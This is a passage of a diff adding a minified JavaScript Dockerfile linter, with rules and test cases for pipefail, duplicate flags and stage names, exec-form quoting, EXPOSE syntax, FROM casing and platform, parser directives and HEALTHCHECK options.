+RUN curl -fsSL https://x | tar -xz
+`,expect:[{line:2,col:26}]},{name:"SHELL with pipefail",input:`FROM debian
+SHELL ["/bin/bash", "-o", "pipefail", "-c"]
+RUN curl -fsSL https://x | tar -xz
+`,expect:[]},{name:"SHELL -eo pipefail (ash)",input:`FROM alpine
+SHELL ["/bin/ash", "-eo", "pipefail", "-c"]
+RUN wget -qO- https://x | tar -xz
+`,expect:[]},{name:"set -o pipefail first",input:`FROM debian
+RUN set -euxo pipefail; curl -fsSL https://x | tar -xz
+`,expect:[]},{name:"set -o pipefail after the pipe does not help",input:`FROM debian
+RUN curl https://x | tar -xz; set -o pipefail
+`,expect:[{line:2}]},{name:"SHELL reset per stage",input:`FROM debian AS a
+SHELL ["/bin/bash", "-o", "pipefail", "-c"]
+FROM debian
+RUN a | b
+`,expect:[{line:4}]},{name:"SHELL inherited from the parent stage",input:`FROM debian AS a
+SHELL ["/bin/bash", "-o", "pipefail", "-c"]
+FROM a
+RUN a | b
+`,expect:[]},{name:"PowerShell",input:`FROM mcr.microsoft.com/windows/servercore:ltsc2022
+SHELL ["powershell", "-Command"]
+RUN Get-ChildItem | Select-Object Name
+`,expect:[]},{name:"|| is not a pipe",input:`FROM debian
+RUN make || true
+`,expect:[]},{name:"pipe inside quotes",input:`FROM debian
+RUN echo 'a | b' && grep -E "x|y" f
+`,expect:[]},{name:"pipe in a command substitution",input:`FROM debian
+RUN arch="$(dpkg --print-architecture | cut -d- -f1)"
+`,expect:[{line:2,col:39}]},{name:"bash -o pipefail -c",input:`FROM debian
+RUN bash -o pipefail -c 'curl https://x | tar -xz'
+`,expect:[]}]},Bd=Kk;var Xk={id:"DuplicateFlag",language:"dockerfile",severity:"error",docs:{summary:"A flag that may appear once is given twice on the same instruction.",why:"Only `RUN --mount`, `RUN --device` and `--exclude` may repeat; `docker build` rejects any other flag given twice (`Duplicate flag specified`), even with the same value.",bad:`FROM python:3.12-slim AS build
+FROM python:3.12-slim
+COPY --from=build --chown=app --from=build /venv /venv
+`,good:`FROM python:3.12-slim AS build
+FROM python:3.12-slim
+COPY --from=build --chown=app /venv /venv
+`},check({model:n,report:e}){for(let t of n.instructions){let s=wn[t.keyword];if(!s||!Ve(t.keyword))continue;let i=B(n,t);if(i.flags.length<2)continue;let r=new Set;for(let o=0;o<i.flags.length;o++){let a=i.flags[o],c=s[a.name];if(!c||c==="strings")continue;if(!r.has(a.name)){r.add(a.name);continue}let l=i.flags[o-1].end;e({message:`Duplicate flag specified: --${a.name}`,range:j(n,i.line,a.start,a.end),fixes:[{title:`Remove the second --${a.name}`,preferred:!0,edits:[{range:j(n,i.line,l,a.end),newText:""}]}]})}}},tests:[{name:"COPY --from twice",input:`FROM alpine AS a
+FROM alpine
+COPY --from=a --from=a /x /x
+`,expect:[{line:3,col:15,message:"--from"}],fixed:`FROM alpine AS a
+FROM alpine
+COPY --from=a /x /x
+`},{name:"bool twice",input:`FROM alpine
+COPY --link --link a /a
+`,expect:[{line:2,col:13}]},{name:"FROM platform twice",input:`FROM --platform=linux/amd64 --platform=linux/arm64 alpine
+`,expect:[{line:1}]},{name:"HEALTHCHECK interval twice",input:`FROM alpine
+HEALTHCHECK --interval=5s --interval=10s CMD true
+`,expect:[{line:2}]},{name:"mount and exclude may repeat",input:`FROM alpine
+RUN --mount=type=cache,target=/a --mount=type=cache,target=/b echo
+COPY --exclude=a --exclude=b . /src
+`,expect:[]},{name:"over continuation lines",input:`FROM alpine
+RUN --network=none \\
+    --network=host echo
+`,expect:[{line:3,col:5}]},{name:"unknown flags are not counted",input:`FROM alpine
+COPY --foo=1 --foo=2 a /a
+`,expect:[]}]},Wd=Xk;var Zk={id:"DuplicateStageName",language:"dockerfile",severity:"warning",compat:{buildkit:"DuplicateStageName"},docs:{summary:"Stage names should be unique (compared case-insensitively).",why:"With two stages of the same name, `--from=name` and `--target name` silently refer to only one of them.",bad:`FROM node:20 AS build
+RUN npm ci
+FROM node:20 AS build
+RUN npm run build
+`,good:`FROM node:20 AS deps
+RUN npm ci
+FROM deps AS build
+RUN npm run build
+`},check({model:n,report:e}){let t=new Set;for(let s of n.stages){if(!s.name)continue;let i=s.name.toLowerCase();t.has(i)&&e({message:`Duplicate stage name "${i}", stage names should be unique`,range:s.nameRange??s.fromInstruction.keywordRange}),t.add(i)}},tests:[{name:"same name twice",input:`FROM scratch AS b
+FROM scratch AS b
+`,expect:[{line:2,col:17,message:'Duplicate stage name "b"'}]},{name:"case-insensitive",input:`FROM scratch AS build
+FROM scratch AS Build
+FROM scratch AS BUILD
+`,expect:[{line:2},{line:3}]},{name:"distinct names",input:`FROM scratch AS b1
+FROM scratch AS b2
+FROM scratch
+FROM scratch
+`,expect:[]}]},Gd=Zk;var Qk=new Set(["sh","bash","ash","dash","zsh","ksh","mksh","fish","busybox","powershell","pwsh","cmd"]),ex=new Set(["-c","/c","/s","-command","-encodedcommand","-e","--eval","-x"]);function tx(n){if(n.length>=2&&(n[0]==="'"||n[0]==='"')&&n[n.length-1]===n[0]&&!n.slice(1,-1).includes(n[0]))return n.slice(1,-1);let e=/^(-{1,2}[A-Za-z0-9][\w.-]*=)(['"])([^'"]*)\2$/.exec(n);return e?e[1]+e[3]:void 0}var nx={id:"ExecFormLiteralQuotes",language:"dockerfile",severity:"warning",docs:{summary:"An exec-form argument contains quotes that are passed to the program literally.",why:"In the JSON form no shell removes quotes: `[\"gunicorn\", \"--bind='0.0.0.0:8000'\"]` hands gunicorn the address `'0.0.0.0:8000'` with the quote characters, which it cannot parse. Each array element is already one argument.",bad:`FROM python:3.12-slim
+CMD ["gunicorn", "--bind='0.0.0.0:8000'", "app:app"]
+`,good:`FROM python:3.12-slim
+CMD ["gunicorn", "--bind=0.0.0.0:8000", "app:app"]
+`},check({model:n,report:e}){for(let t of n.instructions){let s=t.keyword;if(s!=="CMD"&&s!=="ENTRYPOINT"&&s!=="RUN"&&s!=="HEALTHCHECK")continue;let i=Ne(n,t);if(i.kind!=="json"||!i.elements.length)continue;let r=i.elements[0].value.replace(/^.*[\\/]/,"").toLowerCase().replace(/\.exe$/,"");if(Qk.has(r))continue;let o=B(n,t);for(let a of i.elements){if(ex.has(a.value.toLowerCase()))break;let c=tx(a.value);if(c===void 0)continue;let l=j(n,o.line,a.start,a.end);e({message:`The quotes in ${JSON.stringify(a.value)} are passed literally: exec form does not remove quotes`,range:l,fixes:[{title:"Remove the inner quotes",preferred:!0,edits:[{range:l,newText:JSON.stringify(c)}]}]})}}},tests:[{name:"quoted option value",input:`FROM python:3.12
+CMD ["gunicorn", "--bind='0.0.0.0:8000'", "app:app"]
+`,expect:[{line:2,col:18}],fixed:`FROM python:3.12
+CMD ["gunicorn", "--bind=0.0.0.0:8000", "app:app"]
+`},{name:"escaped double quotes",input:`FROM alpine
+ENTRYPOINT ["jq", "\\".name\\""]
+`,expect:[{line:2}],fixed:`FROM alpine
+ENTRYPOINT ["jq", ".name"]
+`},{name:"single-quoted word",input:`FROM alpine
+RUN ["echo", "'hello'"]
+`,expect:[{line:2}]},{name:"HEALTHCHECK",input:`FROM alpine
+HEALTHCHECK CMD ["curl", "-f", "'http://localhost/'"]
+`,expect:[{line:2}]},{name:"shell scripts keep their quotes",input:`FROM alpine
+CMD ["sh", "-c", "'echo' hi"]
+RUN ["/bin/bash", "-c", "echo 'x'"]
+SHELL ["powershell", "-Command", "$ErrorActionPreference = 'Stop';"]
+CMD ["python", "-c", "'x'"]
+`,expect:[]},{name:"inner quotes not around the whole value",input:`FROM alpine
+CMD ["python", "-m", "x", "--name=it's"]
+CMD ["echo", "a 'b' c"]
+`,expect:[]},{name:"shell form untouched",input:`FROM alpine
+CMD gunicorn --bind='0.0.0.0:8000' app:app
+`,expect:[]}]},Vd=nx;var sx={id:"ExposeInvalidFormat",language:"dockerfile",severity:"warning",compat:{buildkit:"ExposeInvalidFormat"},docs:{summary:"EXPOSE should list container ports only, without an IP address or a host-port mapping.",why:"EXPOSE documents the ports the container listens on; `EXPOSE 8080:80` or `EXPOSE 127.0.0.1:80` does not publish anything on the host (that is `docker run -p`), and Docker has announced such values will become an error.",bad:`FROM nginx:1.27
+EXPOSE 8080:80
+`,good:`FROM nginx:1.27
+EXPOSE 80
+`},check({model:n,report:e}){for(let t of n.instructions)if(t.keyword==="EXPOSE")for(let s of t.node.getArguments()){let i=s.getValue();if(!i.includes(":")||i.includes("$"))continue;let r=i.lastIndexOf("/"),o=r>=0?i.slice(0,r):i,a=r>=0?i.slice(r):"",c=o.slice(o.lastIndexOf(":")+1),l=/^\d+(-\d+)?$/.test(c)?[{title:`Keep only the container port ${c}${a}`,preferred:!0,edits:[{range:s.getRange(),newText:c+a}]}]:void 0;e({message:`EXPOSE instruction should not define an IP address or host-port mapping, found '${i}'`,range:rr(t,s.getRange()),fixes:l})}},tests:[{name:"IP and host mappings",input:`FROM scratch
+EXPOSE 127.0.0.1:80:80 [::1]:8080:8080 5000:5000 8000
+`,expect:[{line:2,col:8,message:"'127.0.0.1:80:80'"},{line:2,message:"'[::1]:8080:8080'"},{line:2,message:"'5000:5000'"}],fixed:`FROM scratch
+EXPOSE 80 8080 5000 8000
+`},{name:"protocol is kept",input:`FROM scratch
+EXPOSE 53:53/udp
+`,expect:[{line:2}],fixed:`FROM scratch
+EXPOSE 53/udp
+`},{name:"plain ports, ranges and protocols",input:`FROM scratch
+EXPOSE 80 443/tcp 8000-8010 53/udp
+`,expect:[]},{name:"variables are left alone",input:`FROM scratch
+ARG P=80
+EXPOSE \${P}
+`,expect:[]}]},zd=sx;var Jd=["tcp","udp","sctp"],ix={id:"ExposeInvalidProtocol",language:"dockerfile",severity:"error",docs:{summary:"EXPOSE uses a protocol other than tcp, udp or sctp, or a port range whose start is after its end.",why:"The builder parses `EXPOSE port[-port][/protocol]` and rejects any other protocol (`invalid proto`) and reversed ranges.",bad:`FROM nginx:1.27
+EXPOSE 80/http 8010-8000
+`,good:`FROM nginx:1.27
+EXPOSE 80/tcp 8000-8010
+`},check({model:n,report:e}){for(let t of n.instructions){if(t.keyword!=="EXPOSE")continue;let s=B(n,t);for(let i of s.words){let r=i.raw;if(r.includes("$")||/["']/.test(r))continue;let o=r.indexOf("/"),a=o>=0?r.slice(0,o):r;if(o>=0){let l=r.slice(o+1);if(l&&!Jd.includes(l.toLowerCase())){let u=j(n,s.line,i.start+o+1,i.end),p=be(l,Jd),d=p?[{title:`Change to ${p}`,preferred:!0,edits:[{range:u,newText:p}]}]:void 0;e({message:`Invalid protocol "${l}" in EXPOSE: use tcp, udp or sctp${p?` (did you mean ${p}?)`:""}`,range:u,fixes:d})}}if(a.includes(":"))continue;let c=/^(\d+)-(\d+)$/.exec(a);if(c&&Number(c[1])>Number(c[2])){let l=j(n,s.line,i.start,i.start+a.length);e({message:`Invalid port range ${a}: the start is after the end`,range:l,fixes:[{title:`Use ${c[2]}-${c[1]}`,preferred:!0,edits:[{range:l,newText:`${c[2]}-${c[1]}`}]}]})}}}},tests:[{name:"http protocol",input:`FROM alpine
+EXPOSE 80/http
+`,expect:[{line:2,col:11,message:"http"}]},{name:"typo",input:`FROM alpine
+EXPOSE 53/upd
+`,expect:[{line:2}],fixed:`FROM alpine
+EXPOSE 53/udp
+`},{name:"reversed range",input:`FROM alpine
+EXPOSE 8010-8000/tcp
+`,expect:[{line:2,col:8}],fixed:`FROM alpine
+EXPOSE 8000-8010/tcp
+`},{name:"valid",input:`FROM alpine
+EXPOSE 80 443/tcp 53/udp 9/sctp 8000-8010 5000/TCP 6000/Udp 7000/
+`,expect:[]},{name:"variables",input:"FROM alpine\nARG P=80\nEXPOSE $P/${PROTO} ${A}-${B}\n",expect:[]},{name:"continuation",input:`FROM alpine
+EXPOSE 80 \\
+  81/xyz
+`,expect:[{line:3,col:6}]}]},Kd=ix;var rx={id:"ExposeProtoCasing",language:"dockerfile",severity:"warning",compat:{buildkit:"ExposeProtoCasing"},docs:{summary:"The protocol in EXPOSE (`tcp`, `udp`, `sctp`) should be lowercase.",why:"Docker matches protocols in lowercase; `80/TCP` is accepted today only by normalisation and is reported by `docker build --check`.",bad:`FROM nginx:1.27
+EXPOSE 80/TCP
+`,good:`FROM nginx:1.27
+EXPOSE 80/tcp
+`},check({model:n,report:e}){for(let t of n.instructions)if(t.keyword==="EXPOSE")for(let s of t.node.getArguments()){let i=s.getValue(),r=i.indexOf("/");if(r<0||i.includes("$"))continue;let o=i.slice(r+1);o!==o.toLowerCase()&&e({message:`Defined protocol '${i}' in EXPOSE instruction should be lowercase`,range:rr(t,s.getRange()),fixes:[{title:`Write '${i.slice(0,r+1)+o.toLowerCase()}'`,preferred:!0,edits:[{range:s.getRange(),newText:i.slice(0,r+1)+o.toLowerCase()}]}]})}},tests:[{name:"uppercase protocols",input:`FROM scratch
+EXPOSE 80/TcP 8080/TCP 8080/udp
+`,expect:[{line:2,col:8,message:"'80/TcP'"},{line:2,col:15,message:"'8080/TCP'"}],fixed:`FROM scratch
+EXPOSE 80/tcp 8080/tcp 8080/udp
+`},{name:"lowercase or none",input:`FROM scratch
+EXPOSE 80 443/tcp 53/udp
+`,expect:[]},{name:"continuation line",input:`FROM scratch
+EXPOSE 80 \\
+  443/UDP
+`,expect:[{line:2}]}]},Xd=rx;var ox={id:"FromAsCasing",language:"dockerfile",severity:"warning",compat:{buildkit:"FromAsCasing"},docs:{summary:"The 'AS' keyword should match the casing of the 'FROM' keyword.",why:"Keywords in one instruction written in different casings (`FROM x as y`) read as a typo and are reported by `docker build --check`.",bad:`FROM node:20 as build
+RUN npm ci
+`,good:`FROM node:20 AS build
+RUN npm ci
+`},check({model:n,report:e}){for(let t of n.stages){let{asWord:s,asRange:i}=he(n,t);if(!s||!i)continue;let r=t.fromInstruction.written,o=r===r.toLowerCase(),a=r===r.toUpperCase();if(!o&&!a)continue;let c=o?s.toLowerCase():s.toUpperCase();c!==s&&e({message:`'${s}' and '${r}' keywords' casing do not match`,range:i,fixes:[{title:`Write '${c}'`,preferred:!0,edits:[{range:i,newText:c}]}]})}},tests:[{name:"lowercase as",input:`FROM scratch as base
+`,expect:[{line:1,col:14,message:"'as' and 'FROM'"}],fixed:`FROM scratch AS base
+`},{name:"uppercase AS with lowercase from",input:`from scratch AS base
+`,expect:[{line:1}],fixed:`from scratch as base
+`},{name:"matching casing",input:`FROM scratch AS a
+from scratch as b
+`,expect:[]},{name:"mixed-case FROM is left to ConsistentInstructionCasing",input:`From scratch as base
+`,expect:[]},{name:"no stage name",input:`FROM scratch
+`,expect:[]}]},Zd=ox;var ax=new Set(["aix","android","darwin","dragonfly","freebsd","hurd","illumos","ios","js","linux","nacl","netbsd","openbsd","plan9","solaris","windows","zos","wasip1"]),cx={x86_64:"amd64","x86-64":"amd64",aarch64:"arm64",armhf:"arm",armel:"arm",i386:"386",i686:"386",x86:"386"},lx=new Set(["386","amd64","amd64p32","arm","armbe","arm64","arm64be","ppc64","ppc64le","mips","mipsle","mips64","mips64le","mips64p32","mips64p32le","ppc","riscv","riscv64","s390","s390x","sparc","sparc64","wasm","loong64"]);function ux(n){let e=n.split("/");if(e.length>3||e.some(s=>!/^[A-Za-z0-9_.()-]+$/.test(s)))return;let t=s=>cx[s.toLowerCase()]??s.toLowerCase();if(e.length===1){let s=e[0].toLowerCase();return ax.has(s)||s==="macos"?{os:s==="macos"?"darwin":s,arch:"amd64"}:lx.has(t(s))?{os:"linux",arch:t(s)}:void 0}return{os:e[0].toLowerCase().replace(/\(.*\)$/,""),arch:t(e[1])}}var px={id:"FromPlatformFlagConstDisallowed",language:"dockerfile",severity:"warning",compat:{buildkit:"FromPlatformFlagConstDisallowed"},docs:{summary:"FROM --platform should use a variable such as `$BUILDPLATFORM`, not a constant.",why:"A constant platform pins the stage to one architecture whatever `--platform` the build asks for, so multi-platform builds silently produce wrong-architecture images (unless the stage is named for that platform on purpose).",bad:`FROM --platform=linux/amd64 golang:1.22 AS build
+`,good:`FROM --platform=$BUILDPLATFORM golang:1.22 AS build
+`},check({model:n,report:e}){for(let t of n.stages){let{platform:s,name:i}=he(n,t);if(!s||s.includes("$"))continue;let r=ux(s);if(!r)continue;let o=(i??"").toLowerCase();if(o&&(o.includes(r.os)||o.includes(r.arch)))continue;let c=t.from.getPlatformFlag()?.getRange();e({message:`FROM --platform flag should not use constant value "${s}"`,range:c&&c.start.line===t.fromInstruction.range.start.line?c:t.fromInstruction.range})}},tests:[{name:"constant platform",input:`FROM --platform=linux/amd64 scratch
+`,expect:[{line:1,col:6,message:'"linux/amd64"'}]},{name:"stage named for the architecture",input:`FROM --platform=linux/amd64 scratch AS my_amd64_stage
+`,expect:[]},{name:"stage named for the OS",input:`FROM --platform=linux/amd64 scratch AS linux
+`,expect:[]},{name:"variables",input:`FROM --platform=$BUILDPLATFORM scratch
+FROM --platform=linux/\${TARGETARCH} scratch
+`,expect:[]},{name:"arm variant",input:`FROM --platform=linux/arm/v7 alpine AS build
+`,expect:[{line:1}]}]},Qd=px;var ef="[a-z0-9]+(?:(?:[._]|__|-+)[a-z0-9]+)*",dx="(?:[a-zA-Z0-9](?:[a-zA-Z0-9-]*[a-zA-Z0-9])?(?:\\.[a-zA-Z0-9](?:[a-zA-Z0-9-]*[a-zA-Z0-9])?)*|\\[[0-9A-Fa-f:]+\\])(?::[0-9]+)?",fx="[\\w][\\w.-]{0,127}",gx="[A-Za-z][A-Za-z0-9]*(?:[-_+.][A-Za-z][A-Za-z0-9]*)*:[0-9a-fA-F]{32,}",mx=new RegExp(`^(?:${dx}/)?${ef}(?:/${ef})*(?::${fx})?(?:@${gx})?$`);function hx(n){return!mx.test(n)||/^[a-f0-9]{64}$/.test(n)?!1:n.replace(/@.*$/,"").replace(/:[\w][\w.-]*$/,"").length<=255}var yx={id:"InvalidDefaultArgInFrom",language:"dockerfile",severity:"warning",compat:{buildkit:"InvalidDefaultArgInFrom"},docs:{summary:"A FROM that uses global ARGs should name a valid image with the ARGs' default values.",why:"Without `--build-arg` the defaults are what `docker build` uses; `ARG VERSION` with no default turns `FROM node:$VERSION` into `node:`, which fails, and tools that read the Dockerfile cannot tell which image it uses.",bad:`ARG VERSION
+FROM node:$VERSION
+`,good:`ARG VERSION=20
+FROM node:$VERSION
+`},check({model:n,report:e}){let t=_t(n);for(let s of n.stages){let{image:i}=he(n,s);if(!i||!i.includes("$"))continue;let r=Te(i,t,n.escape);r.error||hx(r.result)||e({message:`Default value for ARG ${i} results in empty or invalid base image name`,range:s.fromInstruction.range})}},tests:[{name:"no default gives an empty tag",input:`
+ARG VERSION
+FROM busybox:$VERSION
+`,expect:[{line:3,message:"Default value for ARG busybox:$VERSION results in empty or invalid base image name"}]},{name:"empty image",input:`ARG IMAGE
+FROM $IMAGE
+`,expect:[{line:2}]},{name:"default ends in a colon",input:`ARG SFX="box:"
+FROM busy\${SFX}
+`,expect:[{line:2}]},{name:"valid defaults",input:`ARG VERSION="latest"
+ARG V2=""
+ARG V3
+ARG REG=ghcr.io:443/org
+FROM busybox:\${VERSION}
+FROM busybox:stable\${V2}
+FROM busybox:stable\${V3}
+FROM $REG/app:1@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef
+`,expect:[]},{name:"uppercase repository",input:`ARG NAME=Busybox
+FROM $NAME
+`,expect:[{line:2}]}]},tf=yx;function bx(n){return n.memoize("directiveLines",()=>{let e=0;for(;e<n.lines.lineCount&&/^\s*#\s*[A-Za-z]+\s*=/.test(n.lines.lineText(e));)e++;return e})}function wx(n,e){let t=bx(n),s=e.range.start.line-1,i;for(;s>=t;s--){let r=n.lines.lineText(s),o=/^\s*#(.*)$/.exec(r);if(!o)break;let a=o[1].trim();if(a==="")break;i=a}return i}var vx={id:"InvalidDefinitionDescription",language:"dockerfile",severity:"warning",optIn:!0,compat:{buildkit:"InvalidDefinitionDescription"},docs:{summary:"A comment right above FROM \u2026 AS name or ARG should start with that name (`# name description`); experimental in BuildKit, reported only with `# check=experimental=InvalidDefinitionDescription` (or when enabled in the settings).",why:"`docker buildx build --call=outline` and `--call=targets` show such comments as descriptions of build targets and arguments; a comment that does not start with the name is either not meant as a description (separate it with an empty line or `#`) or is a description that tools will miss.",bad:`# check=experimental=InvalidDefinitionDescription
+# the version to build
+ARG VERSION=1
+`,good:`# check=experimental=InvalidDefinitionDescription
+# VERSION is the version to build
+ARG VERSION=1
+`},check({model:n,report:e}){for(let t of n.instructions){let s;if(t.keyword==="ARG")s=Be(n,t).pairs.map(a=>dt(a.key,n.escape)).filter(Boolean);else if(t.keyword==="FROM"&&t.stage){let a=he(n,t.stage).name;s=a?[a.toLowerCase()]:[]}else continue;if(s.length===0)continue;let i=wx(n,t);if(i===void 0)continue;let r=i.split(" ")[0];if(s.includes(r))continue;let o=s.length>1?"<arg_key>":s[0];e({message:`Comment for ${t.keyword} should follow the format: \`# ${o} <description>\``,range:t.range})}},tests:[{name:"BuildKit's example",input:`# check=experimental=InvalidDefinitionDescription
+# bar this is the bar
+ARG foo=bar
+# BasE this is the BasE image
+FROM scratch AS base
+# definitely a bad comment
+ARG version=latest
+# definitely a bad comment
+ARG foo=baz bar=qux baz=quux
+`,expect:[{line:3,message:"Comment for ARG should follow the format: `# foo <description>`"},{line:5,message:"`# base <description>`"},{line:7,message:"`# version <description>`"},{line:9,message:"`# <arg_key> <description>`"}]},{name:"good descriptions and separated comments",input:`# foo this is the foo
+ARG foo=bar
+
+# base this is the base image
+FROM scratch AS base
+
+# not a description
+
+ARG version=latest
+# baz this is the baz
+ARG foo=baz bar=qux baz=quux
+# a note
+#
+ARG bit=bat
+# comment for something other than ARG or FROM
+COPY Dockerfile .
+`,expect:[]},{name:"FROM without a stage name",input:`# the base
+FROM scratch
+`,expect:[]}]},nf=vx;var sf="(?:[a-zA-Z0-9]|[a-zA-Z0-9][a-zA-Z0-9-]*[a-zA-Z0-9])",kx=`${sf}(?:\\.${sf})*(?::[0-9]+)?`,rf="[a-z0-9]+(?:(?:[._]|__|-+)[a-z0-9]+)*",xx=new RegExp(`^(?:${kx}/)?${rf}(?:/${rf})*(?::[\\w][\\w.-]{0,127})?(?:@[A-Za-z][A-Za-z0-9]*(?:[-_+.][A-Za-z][A-Za-z0-9]*)*:[0-9a-fA-F]{32,})?$`);function of(n){return xx.test(n)}var Rx={id:"InvalidDirective",language:"dockerfile",severity:"error",docs:{summary:"A parser directive (`# syntax=`, `# escape=`, `# check=`) is invalid, repeated, or in a place where it is ignored.",why:"`# syntax=` and `# escape=` are read only from the very first lines, before any blank line, comment or instruction; later they are plain comments and silently do nothing. `escape` accepts only `\\` or a backtick, each directive may appear once, and `syntax` must be an image reference or the build cannot start.",bad:`# escape=^
+# syntax=docker/dockerfile:1
+# syntax=docker/dockerfile:1.7
+FROM python:3.12-slim
+`,good:`# syntax=docker/dockerfile:1
+# escape=\`
+FROM python:3.12-slim
+`},check({model:n,report:e}){let t=el(n),s=new Set;for(let o of t){let a=Js(o.line,o.valueStart,o.valueEnd);if(s.has(o.name)){let c={start:{line:o.line,character:0},end:{line:o.line+1,character:0}};e({message:`Only one ${o.name} parser directive can be used`,range:Js(o.line,0,o.valueEnd),fixes:[{title:`Remove the repeated ${o.name} directive`,edits:[{range:c,newText:""}]}]});continue}if(s.add(o.name),o.name==="escape"&&o.value!=="\\"&&o.value!=="`"){let c=[{title:"Use a backtick",preferred:o.value.includes("`"),edits:[{range:a,newText:"`"}]},{title:"Use a backslash",edits:[{range:a,newText:"\\"}]}];o.value.includes("`")||c.reverse(),e({message:`Invalid escape token \`${o.value}\`: the escape character must be \\ or \``,range:a,fixes:c})}else if(o.name==="syntax"&&!of(o.value)){let c=o.value.trim().toLowerCase(),l=of(c)?[{title:`Use ${c}`,preferred:!0,edits:[{range:a,newText:c}]}]:void 0;e({message:`# syntax= must name a frontend image such as docker/dockerfile:1, not \`${o.value}\``,range:a,fixes:l})}}let i=t.length?t[t.length-1].line:-1,r=new Set;for(let o of n.comments)r.add(o.getRange().start.line);for(let o of n.ast.getDirectives())r.add(o.getRange().start.line);for(let o of[...r].sort((a,c)=>a-c)){if(o<=i)continue;let a=n.lines.lineText(o),c=Qc(a.charCodeAt(0)===65279?a.slice(1):a);!c||!Zc.has(c.name)||c.name==="check"||e({message:`This \`# ${c.name}=\` is an ordinary comment and is ignored: parser directives must come first in the file, before any blank line, other comment or instruction`,range:Js(o,0,a.length),severity:"warning"})}},tests:[{name:"invalid escape",input:`# escape=^
+FROM alpine
+`,expect:[{line:1,col:10,message:"escape"}],fixed:`# escape=\\
+FROM alpine
+`},{name:"duplicate directive",input:`# syntax=docker/dockerfile:1
+# syntax=docker/dockerfile:1.7
+FROM alpine
+`,expect:[{line:2,col:1,message:"Only one syntax"}],fixed:`# syntax=docker/dockerfile:1
+FROM alpine
+`},{name:"duplicate in other case",input:`# escape=\`
+# ESCAPE=\`
+FROM alpine
+`,expect:[{line:2,message:"Only one escape"}]},{name:"syntax not a reference",input:`# syntax=Docker/Dockerfile:1
+FROM alpine
+`,expect:[{line:1,col:10}],fixed:`# syntax=docker/dockerfile:1
+FROM alpine
+`},{name:"syntax with spaces",input:`# syntax=docker dockerfile
+FROM alpine
+`,expect:[{line:1}]},{name:"misplaced after a comment",input:`# My image
+# syntax=docker/dockerfile:1
+FROM alpine
+`,expect:[{line:2,severity:"warning",message:"ignored"}]},{name:"misplaced after a blank line",input:`
+# escape=\`
+FROM alpine
+`,expect:[{line:2,severity:"warning"}]},{name:"misplaced after FROM",input:`FROM alpine
+# syntax=docker/dockerfile:1
+`,expect:[{line:2,severity:"warning"}]},{name:"check before an instruction is honoured",input:`
+FROM alpine
+# check=skip=JSONArgsRecommended
+CMD echo
+`,expect:[]},{name:"valid directives",input:`# syntax=docker.io/docker/dockerfile:1.7-labs@sha256:38387523653efa0039f8e1c89bb74a30504e76ee9f565e25c9a09841f9427b05
+#escape=\\
+#  check = skip=JSONArgsRecommended;error=true
+FROM alpine
+`,expect:[]},{name:"registry with port",input:`# syntax=localhost:5000/my/frontend:latest
+FROM alpine
+`,expect:[]},{name:"plain key=value comments are comments",input:`# foo=bar
+# escape=\`
+FROM alpine
+# version=1.2
+`,expect:[{line:2,severity:"warning"}]},{name:"ordinary comments",input:`# Build with: docker build -t x .
+FROM alpine
+# key=value in a comment
+RUN echo
+`,expect:[]},{name:"BOM",input:`\uFEFF# syntax=docker/dockerfile:1
+FROM alpine
+`,expect:[]},{name:"CRLF",input:`# syntax=docker/dockerfile:1\r
+# escape=\`\r
+FROM alpine\r
+`,expect:[]},{name:"empty file",input:"",expect:[]},{name:"only comments",input:`# syntax=docker/dockerfile:1
+`,expect:[]}]},af=Rx;var Ox=new Set(["interval","timeout","start-period","start-interval"]),Sx={id:"InvalidHealthcheckOption",language:"dockerfile",severity:"error",docs:{summary:"A HEALTHCHECK duration or retry count is not something the builder accepts.",why:"Durations use Go syntax with a unit (`30s`, `1m30s`, `500ms`, `1h`) and, unless 0, must be at least 1ms; `--retries` is a whole number. `--interval=30` (no unit) or `--retries=three` stops `docker build`.",bad:`FROM nginx:1.27
+HEALTHCHECK --interval=30 --retries=three CMD curl -f http://localhost/ || exit 1
+`,good:`FROM nginx:1.27
+HEALTHCHECK --interval=30s --retries=3 CMD curl -f http://localhost/ || exit 1
+`},check({model:n,report:e}){for(let t of n.instructions){if(t.keyword!=="HEALTHCHECK")continue;let s=B(n,t);if(s.words[0]?.raw.toUpperCase()!=="NONE")for(let i of s.flags){let r=i.value;if(r===void 0||r===""||r.includes("$"))continue;let o=j(n,s.line,i.nameEnd+1,i.end);if(Ox.has(i.name)){let a=md(r);if("error"in a){let c=/^\d+$/.test(r)?[{title:`Use ${r}s`,preferred:!0,edits:[{range:o,newText:`${r}s`}]}]:void 0;e({message:`--${i.name}: ${a.error} (use a unit, e.g. 30s, 1m30s, 500ms)`,range:o,fixes:c})}else a.ns!==0&&a.ns<1e6&&e({message:`--${i.name}=${r} cannot be less than 1ms`,range:o})}else if(i.name==="retries")if(!/^[+-]?\d+$/.test(r))e({message:`--retries must be a whole number, not \`${r}\``,range:o});else{let a=Number(r);a<0?e({message:`--retries cannot be negative (${r})`,range:o}):a>2147483647?e({message:`--retries=${r} is out of range`,range:o}):a===0&&e({message:'--retries=0 means "use the default" (3), and older builders reject it',range:o,severity:"warning"})}}}},tests:[{name:"duration without unit",input:`FROM alpine
+HEALTHCHECK --interval=30 CMD true
+`,expect:[{line:2,col:24,message:"missing unit"}],fixed:`FROM alpine
+HEALTHCHECK --interval=30s CMD true
+`},{name:"unknown unit",input:`FROM alpine
+HEALTHCHECK --timeout=5sec CMD true
+`,expect:[{line:2,message:"unknown unit"}]},{name:"garbage",input:`FROM alpine
+HEALTHCHECK --start-period=soon CMD true
+`,expect:[{line:2,message:"invalid duration"}]},{name:"too small",input:`FROM alpine
+HEALTHCHECK --start-interval=10us CMD true
+`,expect:[{line:2,message:"1ms"}]},{name:"negative",input:`FROM alpine
+HEALTHCHECK --interval=-5s CMD true
+`,expect:[{line:2,message:"1ms"}]},{name:"retries word",input:`FROM alpine
+HEALTHCHECK --retries=three CMD true
+`,expect:[{line:2,col:23,message:"whole number"}]},{name:"retries negative",input:`FROM alpine
+HEALTHCHECK --retries=-1 CMD true
+`,expect:[{line:2,message:"negative"}]},{name:"retries zero",input:`FROM alpine
+HEALTHCHECK --retries=0 CMD true
+`,expect:[{line:2,severity:"warning"}]},{name:"valid durations",input:`FROM alpine
+HEALTHCHECK --interval=1m30s --timeout=500ms --start-period=1h --start-interval=0 --retries=5 CMD true
+HEALTHCHECK --interval=1.5s --timeout=0s CMD ["true"]
+`,expect:[]},{name:"variables",input:`FROM alpine
+ARG I=30s
+HEALTHCHECK --interval=$I --retries=\${R} CMD true
